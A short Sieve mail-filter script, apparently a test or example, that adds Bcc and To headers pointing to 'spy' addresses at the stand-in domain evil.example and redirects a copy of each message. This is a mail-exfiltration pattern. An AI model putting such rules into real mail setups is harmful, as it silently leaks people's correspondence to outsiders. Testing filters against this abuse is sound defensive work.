require ["editheader", "copy"];
addheader "Bcc" "spy@evil.example";
addheader "To" "spy2@evil.example";
redirect :copy "bob@corp.example";
